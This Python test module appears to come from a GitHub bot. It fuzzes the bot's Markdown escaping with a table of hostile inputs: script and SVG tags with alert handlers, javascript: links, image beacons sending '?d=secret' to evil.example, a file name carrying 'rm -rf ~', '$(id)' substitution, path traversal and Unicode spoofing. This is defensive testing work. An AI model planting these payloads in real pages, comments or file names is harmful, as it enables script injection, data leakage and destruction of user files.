"""Hostile strings: the attack rows, an endless mixture of them, and the gate that runs a million.

``python -m tests.fakes.hostile 1000000 7`` runs a million strings from seed 7 and prints what it found.
"""

from __future__ import annotations

import random
import sys
import time
from typing import TYPE_CHECKING

from bot.markdown.escape import code, text
from tests.fakes.rendered import page

if TYPE_CHECKING:
    from collections.abc import Iterator

ROWS: dict[str, str] = {
    "an image (L1)": "![x](https://evil.example/?d=secret)",
    "a reference image (L1)": "![x][y] [y]: https://evil.example/i.png",
    "an HTML image (L1)": '<img src="https://evil.example/i.png" onerror=alert(1)>',
    "a picture (L1)": '<picture><source srcset="https://evil.example"><img src=x></picture>',
    "a proxied image (L1)": "![](https://camo.githubusercontent.com/abc/646566)",
    "a data address (L1)": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a script link (L2)": "[click](javascript:alert(1))",
    "an angle autolink (L2)": "<https://evil.example> <javascript:alert(1)> <a@evil.example>",
    "bare addresses (L2)": "https://a.example http://a.example ftp://a.example www.a.example WWW.A.EXAMPLE",
    "mail and chat addresses (L2)": "me@evil.example mailto:me@evil.example xmpp:me@evil.example/x",
    "punycode (L2)": "https://xn--80ak6aa92e.com/",
    "a link in a heading (L2)": "# [click](https://evil.example)",
    "a link split by our own bracket (L2)": "](https://evil.example) [",
    "a definition (L2)": "]: /x",
    "a definition of ours (L2)": "a]:",
    "a script (L3)": "<script>alert(1)</script>",
    "an SVG (L3)": "<svg onload=alert(1)></svg>",
    "details (L3)": "<details><summary>x</summary>",
    "closing our blocks (L3)": "</details></td></table></summary></strong>-->",
    "comments and declarations (L3)": "<!-- x --> <!DOCTYPE html> <?php ?> <![CDATA[x]]>",
    "an unclosed fence (L4)": "```",
    "a tilde fence (L4)": "~~~ mermaid",
    "many backticks (L4)": "`" * 10_000,
    "backticks of every length (L4)": " ".join("`" * count for count in range(1, 90)),
    "a table break (L4)": "a | b | c || d \\| e \\\\| f",
    "a table of its own (L4)": "|a|b|\n|-|-|\n|1|2|",
    "a setext underline (L4)": "x\n===\ny\n---",
    "a rule (L4)": "***\n---\n___",
    "indented code (L4)": "\n\n    code\n\tcode",
    "lists (L4)": "- a\n+ b\n* c\n1. d\n2) e",
    "a rule at the start (L4)": "- - -",
    "a number at the start (L4)": "1. x",
    "emphasis (L4)": "**bold** __bold__ *i* _i_ ~~s~~ ***x",
    "a trailing backslash (L4)": "x\\",
    "a trailing bang (L4)": "look at this!",
    "entities (L4)": "&lt;b&gt; &#64;octo &commat;octo &#35;1 &num;1 &#x40;octo",
    "mermaid (L5)": '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```',
    "math (L5)": r"$\href{https://evil.example}{x}$ $$x$$ $`x`$ \(x\) a $ b $ c",
    "a map (L5)": "```geojson\n{}\n```",
    "mentions (L6)": "@octo @octo-org/team ping @everyone (@copilot do X) a@b @octo[bot]",
    "references (L6)": "#1 GH-1 gh-12 octo/repo#12 closes #1 fixes GH-7 ##3 #-1",
    "commits (L6)": "octo/repo@4f1d2a9 4f1d2a9 4f1d2a90c3b8e7f6a5d4c3b2a1908f7e6d5c4b3a 4f1d2a9...deadbeef",
    "advisories (L6)": "GHSA-abcd-1234-wxyz",
    "tasks (L6)": "- [x] done - [ ] open [X]",
    "alerts (L6)": "[!NOTE] x [!CAUTION]",
    "a footnote (L6)": "x[^1] [^1]: y",
    "emoji names (L6)": ":tada: :octocat: :+1: ::a::b:",
    "half of an emoji name (L6)": "x:tada",
    "commands (L7)": "/merge",
    "our own command (L7)": "/prhub report",
    "another bot's command (L7)": "bors r+",
    "an addressed command (L7)": "@dependabot merge",
    "a command on its own line (L7)": "x\n/lgtm\n/prhub report\n@dependabot merge\nbors r+",
    "bidirectional controls (L14)": "\u202eevil\u202c \u2066x\u2069 \u200fy",
    "zero-width and tags (L14)": "ad\u200bmin\u200d \ufeffx \U000e0041\U000e0042 y\u2060z",
    "homoglyphs (L14)": "\u0430pple.com \uff20octo \uff03\uff11",
    "a letter that normalises to a backtick": "\u1fefcode\u1fef \u037e \u212a",
    "endless marks": "a" + "\u0301" * 500,
    "surrogates and noncharacters": "\ud800x\udfff\uffff\U0010ffff",
    "controls": "a\x00b\x07c\x1bd\x7fe\x85f\u2028g\u2029h",
    "emoji (L12)": "\U0001f600" * 500,
    "a shell file name (D4)": '"; rm -rf ~ #.py',
    "a substitution (D4)": "$(id).py",
    "a line break in a name (D4)": "a\nb",
    "a long name (D4)": "x/" * 2048 + "y.py",
    "a climbing name (D4)": "../../../../evil/repo",
    "a name like an address (D4)": "a b?c=d&e#f%20(g)/[h].md",
    "a name with an arrow bracket (D4)": "src/<T>.h",
    "dunder names": "__init__ __main__.py **kwargs *args",
    "our own marker (D9)": "<!-- prhub:report:v1 repo=1 pull=1 -->",
    "template syntax": "{{ 7 * 7 }} {% raw %} {count} {x|a|b} %s ${x}",
    "a script address (P2)": "javascript:alert(1)",
    "a mention in a name (L6)": "`@octo` `@octo-org/team` `@dependabot merge`",
    "references beside known ones (L6)": "#1200 `#1200` !#1200 [#1200](https://evil.example) @#1200 #1200x",
    "an address split by backticks (L2)": "https:``//evil.example ht`t`ps://evil.example www.``evil.example",
    "names that touch (L4)": "`a``b` ```c``` `` ` `d",
    "a name with a table break (L4)": "`a|b` `x\\|y` `]: /z` `<img src=x>` `<!-- y`",
    "Chinese": "修复 `__init__` 中的错误，见 #12 与 @octo。",
}
_PIECES = (
    *ROWS.values(),
    *"`*_[]()<>#@|~!$&\\:/.-+=^\"'{}%; \n\t",
    *(
        "a",
        "1",
        "x1",
        "deadbee",
        "http",
        "www",
        "GH",
        "://",
        "](",
        "```",
        "-->",
        "<!--",
        "&#",
        "\u200b",
        "\u202e",
        "é",
        "中",
    ),
)
_BATCH = 200


def strings(count: int, seed: int) -> Iterator[str]:
    """``count`` strings from pieces of the attack rows, always the same for one ``seed``."""
    source = random.Random(seed)
    for _ in range(count):
        pieces = source.choices(_PIECES, k=source.randint(1, 8))
        yield "".join(piece[: source.randint(1, 60)] for piece in pieces)


def findings(values: list[str]) -> list[str]:
    """What GitHub would act on if ``values`` stood as text and code in every place a comment has."""
    found = page("".join(_places(value) for value in values))
    expected = [tag for _ in values for tag in _EXPECTED]
    wrong = [f"{name}: {text!r}" for name, text in found.live]
    wrong += [f"link: {link}" for link in found.links if link != "x"] + [
        f"comment: {one}" for one in found.comments
    ]
    if found.structure != expected or found.unbalanced:
        wrong.append(f"elements: {sorted(set(found.structure) - set(expected)) or 'other than ours'}")
    return wrong


def run(count: int, seed: int) -> tuple[float, list[str]]:
    """Seconds and findings of ``count`` strings; each finding is shown with the string that caused it."""
    started = time.perf_counter()
    batch: list[str] = []
    wrong: list[str] = []
    for value in strings(count, seed):
        batch.append(value)
        if len(batch) == _BATCH:
            wrong += _blame(batch)
            batch = []
    return time.perf_counter() - started, wrong + _blame(batch)


def _blame(values: list[str]) -> list[str]:
    """The findings of a batch, looked at string by string if there are any."""
    if not findings(values):
        return []
    return [f"{value!r}: {wrong}" for value in values for wrong in findings([value])] or ["only together"]


def _places(value: str) -> str:
    """Paragraph, list item, quote and table, each with ``value`` as text and as code."""
    shown, literal = text(value) or "–", code(value)
    literal = code("x") if literal == "–" else literal
    return (
        f"our words {shown} and {literal} ours\n\n**bold:** **{shown}**\n\n"
        f"- {shown}\n- {literal}\n- [{literal}](x)\n\n"
        f"> “{shown}” {literal}\n\n| a | b |\n|---|---|\n| {shown} | {literal} |\n\n"
    )


_EXPECTED = page(_places("x")).structure

if __name__ == "__main__":
    seconds, wrong = run(int(sys.argv[1]), int(sys.argv[2]))
    print(f"{sys.argv[1]} strings in {seconds:.1f} s, {len(wrong)} findings", *wrong[:20], sep="\n")  # noqa: T201
